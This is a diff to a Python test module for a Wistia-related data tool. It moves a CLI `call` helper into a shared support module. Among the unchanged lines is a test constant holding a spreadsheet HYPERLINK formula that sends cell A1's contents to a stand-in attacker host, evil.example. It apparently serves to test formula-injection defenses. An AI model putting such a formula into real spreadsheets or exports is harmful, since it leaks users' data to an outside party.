@@ -18,12 +18,12 @@ from urllib.parse import urlsplit
 import httpx2
 import pytest
 
+from support.commands import call
 from support.lake import START, Lake, Scenario
 from wistia_simulator import MediaChange, Profile
 from wistia_simulator.main import Serving, build, running
 from wistlake.adapters import rest_catalog
 from wistlake.adapters.published_catalog import PublishedCatalog
-from wistlake.entrypoints.cli.main import main
 from wistlake.errors import ConfigError, StoreError
 
 FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
@@ -63,14 +63,6 @@ def here(lake: Lake, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     }.items():
         monkeypatch.setenv(name, value)
     return tmp_path
-
-
-def call(*arguments: str) -> int:
-    try:
-        main(arguments)
-    except SystemExit as e:
-        return int(e.code or 0)
-    return 0
 
 
 class TestMediaArguments:
